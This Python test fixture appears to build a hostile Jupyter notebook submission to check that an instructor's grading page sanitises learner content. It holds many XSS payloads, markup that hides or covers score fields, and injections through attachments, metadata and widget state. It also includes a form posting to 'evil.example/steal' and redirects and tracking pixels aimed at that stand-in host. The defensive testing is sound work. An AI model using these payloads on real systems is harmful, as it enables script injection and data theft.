"""A hostile learner's text: what they hand in, and what the instructor's page must show.

Every payload, if the browser ever ran it, records its name in ``window.top.__pwned``
(and opens a dialog); the checks read both. The words around the payloads
(``WORDS``) must stay readable as text on every page the instructor or the learner
sees.
"""

from __future__ import annotations

import base64
import copy

WORDS = "Our reseller pact split the margin before we built anything."


def _js(name: str) -> str:
    return f"(top.__pwned=top.__pwned||[]).push('{name}');alert('{name}')"


def _entities(text: str) -> str:
    return "".join(f"&#{ord(ch)};" for ch in text)


PNG_1PX = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
SVG_SCRIPT = base64.b64encode(
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_js("svg-attachment")}">'
    f"<script>{_js('svg-attachment-script')}</script></svg>".encode()
).decode()
HTML_DOC = base64.b64encode(f"<script>{_js('html-attachment')}</script>".encode()).decode()

# name -> Markdown a learner types (each payload names itself).
MARKDOWN = {
    "img-onerror": f'<img src="x" onerror="{_js("img-onerror")}">',
    "script-tag": f"<script>{_js('script-tag')}</script>",
    "svg-onload": f'<svg onload="{_js("svg-onload")}"><circle r="5"></circle></svg>',
    "iframe-srcdoc": f'<iframe srcdoc="<script>{_js("iframe-srcdoc")}</script>"></iframe>',
    "iframe-javascript": f'<iframe src="javascript:{_js("iframe-javascript")}"></iframe>',
    "entity-handler": f'<img src="x" onerror="{_entities(_js("entity-handler"))}">',
    "details-ontoggle": f'<details open ontoggle="{_js("details-ontoggle")}">x</details>',
    "body-onload": f'<body onload="{_js("body-onload")}">',
    "object-data": f'<object data="data:text/html,<script>{_js("object-data")}</script>"></object>',
    "embed-src": f'<embed src="javascript:{_js("embed-src")}">',
    "markdown-js-link": f"[Read my plan](javascript:{_js('markdown-js-link')})",
    "html-js-link": f'<a href="javascript:{_js("html-js-link")}">my plan</a>',
    "autolink-js": f"<javascript:{_js('autolink-js')}>",
    "form": (
        '<form action="https://evil.example/steal" method="post">'
        '<input name="grade" value="10"><button>Submit grade</button></form>'
    ),
    "style-tag": "<style>.score, .panel-heading, input { display: none !important; }</style>",
    "style-overlay": (
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;'
        'background:#fff;z-index:99999">Nothing to grade here</div>'
    ),
    "class-hidden": '<div class="hidden" id="r1-answer">hidden answer</div>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base-tag": '<base href="https://evil.example/">',
    "css-import": "<style>@import url(https://evil.example/x.css);</style>",
    "remote-image": "![our logo](https://evil.example/pixel.png)",
    "remote-image-html": '<img src="https://evil.example/pixel2.png">',
    "data-html-image": "![x](data:text/html;base64," + HTML_DOC + ")",
    "mermaid": f'```mermaid\n<img src=x onerror="{_js("mermaid")}">\n```',
    "math-breakout": f'$$</div><img src=x onerror="{_js("math-breakout")}">$$',
    "mathjax-href": f"$\\href{{javascript:{_js('mathjax-href')}}}{{click}}$",
    "comment-breakout": f'<!--><img src=x onerror="{_js("comment-breakout")}">-->',
    "textarea-breakout": f'</textarea><img src=x onerror="{_js("textarea-breakout")}">',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={_js("noscript")}>"></noscript>',
}

# Cells a learner adds: raw cells (nbconvert pastes them into the page as they stand)
# and Markdown cells with attachments.
RAW_CELLS = {
    "raw-html": (f"<script>{_js('raw-html')}</script>", "text/html"),
    "raw-plain": (f'<img src=x onerror="{_js("raw-plain")}">', ""),
}
ATTACHMENTS = {
    "svg-attachment": (
        "![diagram](attachment:evil.svg)",
        {"evil.svg": {"image/svg+xml": SVG_SCRIPT}},
    ),
    "html-attachment": ("![page](attachment:page.html)", {"page.html": {"text/html": HTML_DOC}}),
    "png-attachment": ("![our logo](attachment:logo.png)", {"logo.png": {"image/png": PNG_1PX}}),
}
# Notebook metadata nbconvert reads: a title, and saved widget state (which makes the
# page load the widget manager from a CDN and render the learner's widgets).
NOTEBOOK_METADATA = {
    "title": f"</title><script>{_js('title')}</script>",
    "widgets": {
        "application/vnd.jupyter.widget-state+json": {
            "state": {
                "m1": {
                    "model_name": "HTMLModel",
                    "model_module": "@jupyter-widgets/controls",
                    "model_module_version": "2.0.0",
                    "state": {"value": f'<img src=x onerror="{_js("widget-state")}">'},
                }
            },
            "version_major": 2,
            "version_minor": 0,
        }
    },
}
CELL_TAGS = ['x" onmouseover="alert(1)', "hidden navbar-fixed-top", "my-notes"]


def reflection(answer_cell: dict, payloads: dict[str, str]) -> dict:
    """The reflection cell with every payload in it, between the learner's real words."""
    cell = copy.deepcopy(answer_cell)
    parts = [WORDS, *payloads.values(), WORDS]
    cell["source"] = "\n\n".join(parts)
    cell["metadata"]["tags"] = list(CELL_TAGS)
    cell["metadata"]["transient"] = {"remove_source": True}  # would hide the answer
    return cell


def added_cells(payloads: dict[str, str]) -> list[dict]:
    """The cells a hostile learner adds after the reflection."""
    cells: list[dict] = []
    for name, text in payloads.items():
        cells.append(_cell("markdown", f"{WORDS} ({name})\n\n{text}", f"md-{name}"))
    for name, (text, mime) in RAW_CELLS.items():
        cell = _cell("raw", text, name)
        if mime:
            cell["metadata"]["raw_mimetype"] = mime
        cells.append(cell)
    for name, (text, files) in ATTACHMENTS.items():
        cell = _cell("markdown", f"{WORDS} ({name})\n\n{text}", name)
        cell["attachments"] = files
        cells.append(cell)
    return cells


def _cell(kind: str, source: str, cell_id: str) -> dict:
    return {
        "cell_type": kind,
        "id": cell_id,
        "metadata": {"tags": list(CELL_TAGS)},
        "source": source,
    }


def hostile_notebook(
    released: dict, answer_id: str = "r1-answer", leave_out: set[str] = frozenset()
) -> dict:
    """The released notebook as a hostile learner hands it in."""
    nb = copy.deepcopy(released)
    payloads = {k: v for k, v in MARKDOWN.items() if k not in leave_out}
    at = next(i for i, c in enumerate(nb["cells"]) if _grade_id(c) == answer_id)
    nb["cells"][at] = reflection(nb["cells"][at], payloads)
    nb["cells"][at + 1 : at + 1] = added_cells(payloads)
    nb["metadata"].update(copy.deepcopy(NOTEBOOK_METADATA))
    return nb


def _grade_id(cell: dict) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def watch(page) -> list[str]:
    """Record every dialog the page opens (a script that ran), dismissing it."""
    dialogs: list[str] = []

    def seen(dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", seen)
    return dialogs


def ran_scripts(page, dialogs: list[str]) -> list[str]:
    """Names of the payloads that ran in ``page``.

    Every payload opens a dialog, which Playwright reports from any frame, and records its
    name in the top page. Frames are not evaluated one by one: a frame the page's policy
    blocked has no script context, and Playwright would wait for one forever."""
    return [*dialogs, *page.main_frame.evaluate("() => (window.__pwned || []).slice()")]


# What the instructor must still be able to do and read, in the page.
PAGE_STATE = """() => {
  const boxes = [...document.querySelectorAll('input.score')].map(el => {
    el.scrollIntoView({block: 'center'});
    const r = el.getBoundingClientRect();
    const top = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
    const cs = getComputedStyle(el);
    return {id: el.id, shown: r.width > 0 && r.height > 0 && cs.display !== 'none'
            && cs.visibility !== 'hidden', onTop: top === el};
  });
  return {
    boxes,
    text: document.body.innerText,
    styles: [...document.querySelectorAll('#notebook-container style')].length,
    styled: [...document.querySelectorAll('#notebook-container [style]')]
      .filter(el => /fixed|absolute|z-index/.test(el.getAttribute('style'))).length,
    frames: document.querySelectorAll('#notebook-container iframe, #notebook-container object, #notebook-container embed').length,
    forms: document.querySelectorAll('#notebook-container form').length,
    images: [...document.querySelectorAll('#notebook-container img')].map(i => i.getAttribute('src').slice(0, 22)),
    // Links in the cells the learner wrote (the instructor's reading links to the glossary).
    links: [...document.querySelectorAll('#notebook-container a[href]')]
      .filter(a => (a.closest('.cell') || document.body).innerText.includes(WORDS))
      .map(a => a.getAttribute('href')),
  };
}""".replace("WORDS", repr(WORDS))
